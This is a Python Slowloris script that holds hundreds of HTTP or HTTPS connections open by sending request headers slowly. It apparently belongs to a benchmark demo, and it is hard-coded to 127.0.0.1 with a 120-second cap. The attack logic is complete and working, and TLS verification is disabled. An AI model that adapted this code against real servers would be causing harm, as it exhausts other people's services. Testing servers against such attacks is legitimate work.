#!/usr/bin/env python3
"""Slowloris: hold many connections open by sending request headers very slowly.

Runs inside the demo container, against loopback only, and stops by itself:

    python3 slowloris.py PORT [--tls] [--connections 400] [--seconds 12] [--every 1]

Opens CONNECTIONS connections to 127.0.0.1:PORT, sends the start of a request on
each, then one more header line per connection every EVERY seconds, never the
blank line that ends the headers. A connection the server closes is opened again.
Prints "ready N PID" once all are open (bench.py starts measuring then), and a
JSON line with its counters when SECONDS are over or when it gets SIGTERM.
"""

import argparse
import json
import os
import signal
import socket
import ssl
import sys
import time


def connect(port, tls):
    sock = socket.create_connection(("127.0.0.1", port), timeout=2)
    if tls:  # the handshake completes; then the request trickles in as over HTTP
        sock = tls.wrap_socket(sock)
    sock.sendall(b"GET /?slowloris HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n")
    return sock


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("--tls", action="store_true", help="HTTPS (the certificate is not checked)")
    parser.add_argument("--connections", type=int, default=400)
    parser.add_argument("--seconds", type=float, default=12)
    parser.add_argument("--every", type=float, default=1)
    args = parser.parse_args()

    tls = None
    if args.tls:
        tls = ssl.create_default_context()
        tls.check_hostname = False
        tls.verify_mode = ssl.CERT_NONE
    end = time.monotonic() + min(args.seconds, 120)  # bounded, whatever is asked

    def stop(signum, frame):
        nonlocal end
        end = 0

    signal.signal(signal.SIGTERM, stop)
    socks, failed, reopened = [], 0, 0
    for _ in range(args.connections):
        try:
            socks.append(connect(args.port, tls))
        except OSError:
            failed += 1
    print(f"ready {len(socks)} {os.getpid()}", flush=True)

    n = 0
    while time.monotonic() < end:
        time.sleep(args.every)
        n += 1
        for i, sock in enumerate(socks):
            try:
                sock.sendall(f"X-Slow-{n}: {n}\r\n".encode())
            except OSError:  # the server gave up on this one: take its place again
                sock.close()
                try:
                    socks[i] = connect(args.port, tls)
                    reopened += 1
                except OSError:
                    failed += 1

    for sock in socks:
        sock.close()
    print(json.dumps({"held": len(socks), "reopened": reopened, "failed": failed}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
